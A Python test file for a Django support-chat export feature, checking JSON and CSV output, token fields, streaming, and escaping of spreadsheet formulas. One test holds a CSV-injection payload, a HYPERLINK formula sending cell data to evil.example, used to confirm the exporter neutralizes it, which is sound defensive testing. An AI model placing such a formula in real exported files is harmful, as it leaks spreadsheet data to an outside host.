"""Exports of selected conversations, parsed back: JSON in Converse format and CSV per message."""

import csv
import io
import json
from typing import Any

import pytest
from django.contrib.auth.models import Group, User
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from chat.staff.export import csv_cell
from orders.models import Customer
from tests.chat.backoffice_data import Builder, DataSet, build
from tests.chat.factories import make_conversation

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:chat_conversation_changelist")


@pytest.fixture
def lead_client(db: None) -> Client:
    user = User.objects.create_user(username="lena", is_staff=True)
    user.groups.add(Group.objects.get(name="Support lead"))
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def data(alice: Customer, bob: Customer) -> DataSet:
    return build(alice, bob)


def export(client: Client, action: str, *conversations: Any) -> tuple[StreamingHttpResponse, str]:
    response = client.post(
        CHANGELIST, {"action": action, "_selected_action": [str(c.pk) for c in conversations]}
    )
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode()
    return response, body


def test_json_export_has_the_converse_messages_and_the_metadata(
    lead_client: Client, data: DataSet
) -> None:
    response, body = export(lead_client, "export_json", data.a, data.b)

    assert response["Content-Type"] == "application/json"
    assert "attachment;" in response["Content-Disposition"]
    exported = {item["id"]: item for item in json.loads(body)}
    assert set(exported) == {str(data.a.pk), str(data.b.pk)}
    b = exported[str(data.b.pk)]
    assert (b["customer_id"], b["status"]) == ("054321", "waiting_for_agent")
    assert [m["seq"] for m in b["messages"]] == [1, 2, 3, 4]
    assert [m["role"] for m in b["messages"]] == ["user", "assistant", "user", "assistant"]
    assert b["messages"][1]["content"][1]["toolUse"]["input"] == {"order_id": "99999"}
    assert b["messages"][2]["content"][0]["toolResult"]["status"] == "error"
    assert [c["stop_reason"] for c in b["model_calls"]] == ["tool_use", "", "end_turn"]
    assert [c["error"] for c in b["model_calls"]] == ["", "ModelBusy", ""]
    assert b["model_calls"][0]["cache_read_tokens"] == 2000
    assert b["created_at"].startswith(str(data.b.created_at.date()))


def test_json_export_of_a_conversation_without_messages(lead_client: Client, data: DataSet) -> None:
    _, body = export(lead_client, "export_json", data.d)

    [item] = json.loads(body)
    assert (item["messages"], item["model_calls"]) == ([], [])
    assert item["escalated_at"] is not None


def test_csv_export_has_one_row_per_message_with_visible_text_and_tokens(
    lead_client: Client, data: DataSet
) -> None:
    response, body = export(lead_client, "export_csv", data.b)

    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["seq"], r["role"], r["kind"]) for r in rows] == [
        ("1", "user", "customer"),
        ("2", "assistant", "assistant"),
        ("3", "user", "tool_results"),
        ("4", "assistant", "assistant"),
    ]
    assert rows[0]["visible_text"] == "What about my orders?"
    assert rows[1]["visible_text"] == ""  # tool calls only: the customer saw nothing
    assert rows[3]["visible_text"] == "Sorry, I could not find order 99999."
    assert "Two lookups." not in body  # the model's thinking stays out of the visible text
    # Each assistant message carries the tokens of the call that produced it; the failed call
    # in between produced nothing.
    assert (rows[1]["input_tokens"], rows[1]["output_tokens"]) == ("500", "20")
    assert (rows[1]["cache_read_tokens"], rows[1]["cache_write_tokens"]) == ("2000", "1000")
    assert (rows[3]["input_tokens"], rows[3]["output_tokens"]) == ("600", "30")
    assert rows[0]["input_tokens"] == ""
    assert {r["conversation_id"] for r in rows} == {str(data.b.pk)}


def test_a_large_selection_streams_conversation_by_conversation(
    lead_client: Client, data: DataSet
) -> None:
    response = lead_client.post(
        CHANGELIST,
        {
            "action": "export_csv",
            "_selected_action": [str(c.pk) for c in (data.a, data.b, data.c, data.d)],
        },
    )

    assert isinstance(response, StreamingHttpResponse)
    chunks = list(response.streaming_content)
    # A header and one chunk per message: nothing waits for the whole selection.
    assert len(chunks) == 1 + 4 + 4 + 4
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert len(rows) == 12


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_export_neutralizes_customer_text_that_a_spreadsheet_would_run(
    lead_client: Client, alice: Customer, start: str
) -> None:
    # OWASP's CSV injection advice: a leading ' makes the cell text.
    conversation = make_conversation(alice)
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    Builder(conversation).customer(formula)

    _, body = export(lead_client, "export_csv", conversation)

    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["visible_text"] == "'" + formula
    assert row["seq"] == "1"  # numbers and ordinary text are left alone
    assert row["role"] == "user"


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),
        ("a=b", "a=b"),
        (-5, -5),
        ("", ""),
    ],
)
def test_every_text_cell_that_starts_a_formula_is_prefixed(value: object, exported: object) -> None:
    assert csv_cell(value) == exported
